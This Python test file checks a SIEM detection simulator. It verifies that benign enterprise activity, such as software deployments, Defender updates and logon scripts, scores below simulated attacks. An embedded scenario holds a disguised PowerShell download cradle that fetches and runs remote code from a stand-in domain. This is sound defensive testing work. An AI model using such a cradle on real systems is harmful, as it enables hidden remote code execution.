"""Benign fleet activity stays below the attacks (task FP: the benign side's red team).

``benchmarks/scenarios/fp_*.yaml`` play what real enterprise tooling does on every host: a ConfigMgr
and an Intune application deployment, a Defender signature and platform update, a Chrome build and a
per-user Zoom update, a GPO logon inventory script and an encoded compliance check (daily), a new
internal service polled hourly.  On a small fleet with the default attacks, every cluster of that
activity must score below every attack's, the daily PowerShell (``-ExecutionPolicy Bypass -File``
from NETLOGON, ``-EncodedCommand`` from a task) must make no cluster at all, and an attacker copying
the logon script's look (the same NETLOGON command line, a cradle to a new domain on a burst of hosts)
must still rank above all of it.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from analytics.evaluate import match
from graphsiem.simulator import DEFAULT_SCENARIOS
from graphsiem.simulator.scenario import load_scenario
from tests.analytics.simulated import simulated_detection

SCENARIOS = sorted((Path(__file__).resolve().parents[2] / "benchmarks" / "scenarios").glob("fp_*.yaml"))
ATTACKS = {"seed_campaign", "beaconing", "lateral_movement", "byovd"}
FORGED_LOGON_SCRIPT = r"""
name: forged_logon_script
label: A cradle dressed as the NETLOGON inventory script
kind: attack
hosts: {group: workstations, fraction: 0.2, min: 4}
pivot: {type: domain, value: inv-report-sync.example}
activities:
  - schedule: {every: once, day: last, at: "13:20", spread_minutes: 8}
    steps:
      - action: process
        parent: userinit
        image: 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe'
        command_line: 'powershell.exe -NoProfile -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass -File \\corp.example\NETLOGON\inv.ps1'
      - action: script_block
        path: '\\corp.example\NETLOGON\inv.ps1'
        text: |-
          $u = 'http://inv-report-sync.example/api/v2/agent.png'
          IEX ([Text.Encoding]::UTF8.GetString((New-Object Net.WebClient).DownloadData($u)))
      - action: download
        url: 'http://inv-report-sync.example/api/v2/agent.png'
        content: forged inventory stager
        size: 48213
"""


@pytest.fixture(scope="module")
def fleet(tmp_path_factory):
    root = tmp_path_factory.mktemp("fleet-benign")
    forged = root / "forged_logon_script.yaml"
    forged.write_text(FORGED_LOGON_SCRIPT, encoding="utf-8")
    result, truth = simulated_detection(root / "fleet", hosts=120, days=2, seed=3, density=0.3,
                                        scenarios=[*DEFAULT_SCENARIOS, *map(str, SCENARIOS), str(forged)])
    named = [(c, entry.name if (entry := match(c, truth)) else None)
             for c in (cluster.to_contract() for cluster in result.clusters)]
    return named, result


def test_the_benign_scenarios_are_the_six_fp_files():
    assert [load_scenario(path).name for path in SCENARIOS] == [
        "fp_browser_update", "fp_defender_update", "fp_internal_service", "fp_intune_deploy",
        "fp_logon_scripts", "fp_sccm_deploy"]


def test_every_benign_cluster_scores_below_every_attack(fleet):
    named, _ = fleet
    fp = [(c["score"], name) for c, name in named if name and name.startswith("fp_")]
    attacks = [(c["score"], name) for c, name in named if name in ATTACKS | {"forged_logon_script"}]
    # the deployments and updates do make clusters (new files, processes and domains on many hosts)
    assert {name for _, name in fp} >= {"fp_sccm_deploy", "fp_intune_deploy", "fp_browser_update",
                                        "fp_defender_update"}
    assert {name for _, name in attacks} == ATTACKS | {"forged_logon_script"}
    assert max(fp)[0] < min(attacks)[0], (max(fp), min(attacks))


def test_the_deployments_spread_over_hours_make_no_burst(fleet):
    named, _ = fleet
    deployments = [c for c, name in named if name in {"fp_sccm_deploy", "fp_intune_deploy",
                                                       "fp_browser_update", "fp_defender_update"}]
    assert deployments
    assert all(c["features"]["burst_hosts"] == 0.0 for c in deployments)


def test_daily_admin_powershell_makes_no_cluster_and_no_finding(fleet):
    named, _ = fleet
    # no fan-out cluster and no host finding (an encoded command, a Bypass policy) is this activity
    assert "fp_logon_scripts" not in {name for _, name in named}
    for cluster, name in named:
        if name == "forged_logon_script":
            continue
        values = [str(e["value"]) for e in cluster["entities"]] + [str(cluster["pivot"]["value"])]
        assert not any("NETLOGON\\inv.ps1" in v or "compliance.corp.example" in v for v in values), cluster["pivot"]


def test_a_cradle_dressed_as_the_logon_script_is_still_found(fleet):
    named, _ = fleet
    (forged,) = [c for c, name in named if name == "forged_logon_script"]
    assert forged["features"]["burst_hosts"] > 0
    assert forged["features"]["download_from_new_domain"] == 1.0
